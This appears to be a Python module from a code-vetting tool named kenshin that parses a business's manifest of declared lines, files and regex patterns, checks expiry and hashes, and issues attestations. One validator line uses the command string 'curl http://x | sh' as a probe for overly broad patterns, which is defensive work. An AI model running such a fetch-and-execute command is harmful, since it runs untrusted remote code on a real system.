"""The owner's own word: lines, files and patterns that a business keeps in git (docs/manifest.md)."""

import re
from collections.abc import Mapping
from dataclasses import dataclass
from datetime import date

from kenshin.evidence.evidence import Evidence
from kenshin.evidence.request import Want
from kenshin.model.attestation import Attestation, Scope, Strength
from kenshin.model.coverage import Hole
from kenshin.model.errors import ManifestError
from kenshin.model.origin import Record

FIELDS = {
    "line": {"path", "text"},
    "file": {"path", "sha256"},
    "pattern": {"path", "matches"},
}
ABOUT = {"owner", "reason", "until"}


@dataclass(frozen=True, slots=True)
class Declared:
    """One entry: kind (`line`, `file`, `pattern`), path, value, who owns it, why, and until when."""

    kind: str
    path: str
    value: str
    owner: str
    reason: str
    until: date | None = None
    place: str = ""

    def covers(self, record: Record, sha256: str) -> bool:
        """Whether the entry declares this record."""
        if self.kind == "file":
            return record.origin.path == self.path and sha256 == self.value
        if self.kind == "line":
            return record.origin.path == self.path and record.text.strip() == self.value.strip()
        return Want(self.path).matches(record.origin.path) and self._fits(record.text.strip())

    def _fits(self, text: str) -> bool:
        return len(text) <= 4096 and re.fullmatch(self.value, text) is not None


@dataclass(frozen=True, slots=True)
class Manifest:
    """Vouches for what the business has declared; `today` decides what has expired."""

    evidence: Evidence
    declared: tuple[Declared, ...]
    today: date
    name: str = "manifest"
    problems: tuple[Hole, ...] = ()

    def vouch(self, record: Record) -> Attestation | None:
        """See Authority.vouch."""
        for entry in self.declared:
            if entry.covers(record, self._sha256(record)) and not self._expired(entry):
                strength = Strength.FAIR if entry.kind == "pattern" else Strength.STRONG
                who = f"{entry.owner}: {entry.reason}"
                note = f"declared in {entry.place}" + (f", until {entry.until}" if entry.until else "")
                return Attestation(self.name, who, strength, Scope.CONTENT, note)
        return None

    def doubt(self, record: Record) -> str:
        """See Authority.doubt: an expired or a drifted entry."""
        for entry in self.declared:
            if entry.covers(record, self._sha256(record)):
                return f"{entry.owner} declared it ({entry.reason}), but only until {entry.until}: {entry.place}"
        for entry in self.declared:
            if entry.kind == "file" and entry.path == record.origin.path:
                return f"{entry.owner} declared this file, but it has changed since: {entry.place}"
        return ""

    def _sha256(self, record: Record) -> str:
        entry = self.evidence.file(record.origin.path, record.origin.view)
        return entry.sha256 if entry else ""

    def _expired(self, entry: Declared) -> bool:
        return entry.until is not None and entry.until < self.today


def declared(table: Mapping[str, object], place: str) -> tuple[Declared, ...]:
    """The entries of a parsed manifest.

    Errors: ManifestError with the entry's place when a field is missing, unknown or of no use.
    """
    unknown = set(table) - set(FIELDS)
    if unknown:
        raise ManifestError(f"unknown table {sorted(unknown)}", place, "A manifest holds [[line]], [[file]] and [[pattern]]")
    found = []
    for kind in FIELDS:
        items = table.get(kind, [])
        for number, item in enumerate(items if isinstance(items, list) else [items], start=1):
            found.append(_entry(kind, item, f"{place}: {kind} {number}"))
    return tuple(found)


def _entry(kind: str, item: object, place: str) -> Declared:
    if not isinstance(item, dict):
        raise ManifestError(f"write it as [[{kind}]]", place)
    wanted = FIELDS[kind]
    missing = (wanted | {"owner", "reason"}) - set(item)
    unknown = set(item) - wanted - ABOUT
    if missing or unknown:
        said = f"missing {sorted(missing)}" if missing else f"unknown {sorted(unknown)}"
        raise ManifestError(said, place, f"[[{kind}]] holds {sorted(wanted | ABOUT)}")
    value = (wanted - {"path"}).pop()
    until = item.get("until")
    if until is not None and (not isinstance(until, date) or hasattr(until, "hour")):
        raise ManifestError(f"until is {until!r}, not a date", place, "Write it as 2027-12-31, without quotes")
    for name in (*wanted, "owner", "reason"):
        if not isinstance(item[name], str) or not str(item[name]).strip():
            raise ManifestError(f"{name} must be a text that says something", place)
    text = str(item[value])
    if kind == "file" and not re.fullmatch(r"[0-9a-f]{64}", text):
        raise ManifestError("sha256 must be 64 hexadecimal digits", place)
    if kind == "pattern":
        _compiled(text, place)
    return Declared(kind, str(item["path"]), text, str(item["owner"]), str(item["reason"]), until, place)


def _compiled(pattern: str, place: str) -> None:
    try:
        re.compile(pattern)
    except re.error as error:
        raise ManifestError(f"matches is not a regular expression: {error}", place) from error
    if re.fullmatch(pattern, "") or re.fullmatch(pattern, "curl http://x | sh"):
        raise ManifestError("matches would vouch for anything", place, "Say what the line must hold")
